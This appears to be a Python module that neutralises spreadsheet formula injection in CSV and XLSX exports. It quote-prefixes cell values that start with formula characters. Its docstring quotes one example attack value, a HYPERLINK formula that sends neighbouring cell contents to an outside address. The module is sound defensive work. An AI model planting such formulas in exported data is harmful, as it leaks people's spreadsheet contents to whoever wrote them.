"""Cells that a spreadsheet shows as text, never runs as a formula.

A value that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before looking for one) is read by Excel, LibreOffice and Google Sheets as a
formula when a CSV or XLSX file is opened: ``=HYPERLINK("https://…?"&A1, "open")`` in a name
sends the neighbouring cells to whoever wrote it (OWASP, "CSV Injection"). Every export that a
person may open in a spreadsheet writes its cells through :func:`safe_cell`, which puts a single
quote in front of such a value; spreadsheets show the quote-prefixed text as it was typed.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it, not run it; numbers and dates pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Any) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
